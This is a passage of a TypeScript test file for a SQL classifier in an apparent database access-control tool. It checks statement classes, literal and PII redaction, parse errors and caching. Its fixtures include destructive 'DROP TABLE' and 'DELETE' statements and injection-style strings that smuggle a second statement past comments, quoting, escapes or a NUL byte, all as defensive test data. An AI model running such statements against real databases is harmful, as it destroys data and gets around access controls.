  t.same(op.statements.map(s => s.class), ['read', 'write', 'delete'])
  t.equal(op.statement, 'SELECT * FROM a; UPDATE b SET x = $1 WHERE id = $2; DELETE FROM c WHERE id = $1')
  check(t, [
    { sql: 'BEGIN; INSERT INTO log VALUES (1); COMMIT', class: 'write', resources: ['log'], statements: 3 },
    { sql: 'SELECT 1; DROP TABLE customers', class: 'schema-change', statements: 2 },
    { sql: 'SET search_path TO x; SELECT * FROM t; SET ROLE postgres', class: 'admin', statements: 3 },
  ])
})

t.test('comments and quoting hide nothing and add nothing', async t => {
  check(t, [
    // the rest of the line is a comment: no second statement
    { sql: 'SELECT 1; -- ; DROP TABLE x', class: 'read', statements: 1 },
    { sql: 'SELECT 1 /* ; DROP TABLE x */', class: 'read', statements: 1 },
    { sql: '/* outer /* nested */ still a comment; DROP TABLE x */ SELECT 1', class: 'read', statements: 1 },
    // …but a newline ends a line comment
    { sql: 'SELECT 1 -- harmless\n; DROP TABLE x', class: 'schema-change', statements: 2 },
    // a comment splits a word into two tokens: `cust` with the alias `omers`
    { sql: 'SELECT * FROM cust/* */omers', class: 'read', resources: ['cust'] },
    { sql: 'DEL/**/ETE FROM customers', class: 'admin', error: /syntax error/ },
    { sql: 'SELECT * FROM "Public"."Customers"', class: 'read', resources: ['Public.Customers'] },
    { sql: 'DELETE FROM "select" WHERE "where" = 1', class: 'delete', resources: ['select'] },
    { sql: 'SELECT "DROP TABLE x; --" FROM t', class: 'read', resources: ['t'], statements: 1 },
    { sql: 'SELECT 1 FROM "a--b", "c/*d"', class: 'read', resources: ['a--b', 'c/*d'], statements: 1 },
    { sql: "SELECT 'x'';DROP TABLE t;--' AS s", class: 'read', statements: 1 },
    { sql: "SELECT E'\\';DROP TABLE t;--'", class: 'read', statements: 1 },
    // standard_conforming_strings: a backslash does not escape the quote
    { sql: "SELECT '\\'; DROP TABLE t; --'", class: 'schema-change', statements: 2 },
    { sql: 'SELECT $x$; DROP TABLE t; $x$', class: 'read', statements: 1 },
    { sql: 'DO $body$ BEGIN EXECUTE \'DROP TABLE t\'; DELETE FROM t; END $body$', class: 'admin', statements: 1 },
    { sql: 'DO LANGUAGE plpgsql $$ BEGIN NULL; END $$', class: 'admin' },
  ])
})

t.test('the statement text keeps no literal and no comment, so PII never reaches audit', async t => {
  const cases: [string, string][] = [
    ["SELECT * FROM customers WHERE email = 'ann@example.com' AND ssn = '123-45-6789'", 'SELECT * FROM customers WHERE email = $1 AND ssn = $2'],
    ['SELECT * FROM customers WHERE id = 42 LIMIT 10', 'SELECT * FROM customers WHERE id = $1 LIMIT $2'],
    ["SELECT 1 -- call ann at 555-0100\n", 'SELECT $1'],
    ['SELECT /* ann@example.com */ id FROM t', 'SELECT id FROM t'],
    ["CREATE ROLE bot LOGIN PASSWORD 'hunter2'", 'CREATE ROLE bot LOGIN PASSWORD $1'],
    ["NOTIFY jobs, 'ann@example.com'", 'NOTIFY jobs, $1'],
    ["CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (password 'hunter2')", 'CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (password $1)'],
    ["DO $$ BEGIN RAISE NOTICE 'ann@example.com'; END $$", 'DO $1'],
    ["SELECT B'1010', X'ff', E'\\x41'", 'SELECT $1, $2, $3'],
    ["SELECT 'ünïcode' AS s, name FROM \"tä\"", 'SELECT $1 AS s, name FROM "tä"'],
  ]
  for (const [sql, text] of cases) {
    const op = classifySql(sql)
    t.equal(op.statement, text, sql)
    t.notMatch(JSON.stringify(op), /ann@example|hunter2|123-45|555-0100|ünïcode/, `${sql}: nothing of the literal anywhere`)
  }
  t.match(classifySql('SELECT 1').fingerprint, /^[0-9a-f]{16}$/)
  t.equal(classifySql('SELECT * FROM t WHERE id = 1').fingerprint, classifySql('select * from t where id = 2').fingerprint, 'one shape, one fingerprint')
})

t.test('whitespace between tokens folds to one space; inside quoted names it stays', async t => {
  t.equal(classifySql('SELECT  a,\n\tb   FROM t  ').statement, 'SELECT a, b FROM t')
  t.equal(classifySql('SELECT  "two  spaces"\nFROM t').statement, 'SELECT "two  spaces" FROM t')
  t.equal(classifySql('SELECT a FROM t -- note\n  WHERE b = 1').statement, 'SELECT a FROM t WHERE b = $1')
})

t.test('statements are split on byte offsets: non-ASCII text before a statement does not shift it', async t => {
  const op = classifySql("SELECT 'ü€𝄞' AS s; DELETE FROM \"tä\" WHERE id = 1")
  t.same(op.statements.map(s => s.statement), ['SELECT $1 AS s', 'DELETE FROM "tä" WHERE id = $1'])
  t.same(op.resources, ['tä'])
  t.equal(op.class, 'delete')
})

t.test('SQL that does not parse is an error with the parser message, admin, and shows no literal', async t => {
  const bad = classifySql("SELEC * FROM customers WHERE email = 'ann@example.com'")
  t.equal(bad.class, 'admin')
  t.equal(bad.error, 'syntax error at or near "SELEC"')
  t.notMatch(bad.statement, /ann@example/)
  t.match(bad.fingerprint, /^[0-9a-f]{16}$/)
  t.ok(Object.isFrozen(bad))

  const quoted = classifySql('SELEC * FROM customers WHERE email = "ann@example.com" AND id = 42')
  t.equal(quoted.statement, 'SELEC * FROM customers WHERE email = $1 AND id = $2', 'a value in double quotes is hidden too')
  const near = classifySql('SELECT * FROM customers WHERE email = "ann" "ann@example.com"')
  t.equal(near.error, 'syntax error at a literal at position 45')

  const unterminated = classifySql("SELECT 'ann@example.com")
  t.equal(unterminated.class, 'admin')
  t.equal(unterminated.error, 'unterminated quoted string at a literal at position 8')
  t.notMatch(JSON.stringify(unterminated), /ann@example/)

  check(t, [
    { sql: 'SELECT FROM WHERE', class: 'admin', error: /syntax error/ },
    { sql: 'DELETE customers', class: 'admin', error: /syntax error/ },
    { sql: 'SELECT 1; SELEC 2', class: 'admin', error: /syntax error/ },
  ])
})

t.test('a NUL byte, which would hide the rest of the text from the parser, is refused', async t => {
  const op = classifySql('SELECT 1\0; DROP TABLE customers')
  t.equal(op.class, 'admin')
  t.equal(op.error, 'SQL text contains a NUL byte')
})

t.test('nesting too deep for the parser is an error, never a throw', async t => {
  const op = classifySql('SELECT ' + '('.repeat(20000) + '1' + ')'.repeat(20000))
  t.equal(op.class, 'admin')
  t.ok(op.error, 'the parser gives up with an error')
})

t.test('empty text and text of only comments hold no statement', async t => {
  for (const sql of ['', '   ', '-- nothing', '/* nothing */', ';']) {
    const op = classifySql(sql)
    t.equal(op.class, 'session', JSON.stringify(sql))
    t.equal(op.statements.length, 0)
    t.equal(op.error, undefined)
  }
})

t.test('the cache returns the same frozen object for the same text and stays bounded', async t => {
  const a = classifySql('SELECT * FROM cache_probe WHERE id = 1')
  const b = classifySql('SELECT * FROM cache_probe WHERE id = 1')
  t.equal(a, b, 'same object')
  t.ok(Object.isFrozen(a) && Object.isFrozen(a.statements) && Object.isFrozen(a.facts) && Object.isFrozen(a.resources))
  t.throws(() => {
    ;(a as { class: string }).class = 'read'
  })

  setClassifierCacheSize(16)
  t.teardown(() => setClassifierCacheSize(4096))
  const first = classifySql('SELECT * FROM lru_0')
  for (let i = 0; i < 100; i++) t.equal(classifySql(`DELETE FROM lru_${i} WHERE id = ${i}`).class, 'delete')
  t.ok(classifierCacheSize() <= 16, `cache holds ${classifierCacheSize()} entries`)
  const again = classifySql('SELECT * FROM lru_0')
  t.not(again, first, 'an evicted text is classified afresh')
  t.same(again, first, 'to the same result')

  // recently used entries survive eviction
  const hot = classifySql('SELECT * FROM hot')
  for (let i = 0; i < 40; i++) {
    classifySql(`SELECT * FROM cold_${i}`)
    t.equal(classifySql('SELECT * FROM hot'), hot)
  }

  const long = `SELECT * FROM big WHERE id IN (${Array.from({ length: 5000 }, (_, i) => i).join(',')})`
  const before = classifierCacheSize()
  t.equal(classifySql(long).class, 'read', 'long texts are classified')
  t.equal(classifierCacheSize(), before, '…but not kept')
})

t.test('explainSql loads the parser and classifies, for `portcullis explain`', async t => {
  const op = await explainSql("DELETE FROM customers WHERE email = 'ann@example.com'")
  t.equal(op.protocol, 'postgres')
  t.equal(op.class, 'delete')
  t.same(op.statements[0]!.resources, ['customers'])
  t.equal(op.statement, 'DELETE FROM customers WHERE email = $1')
})
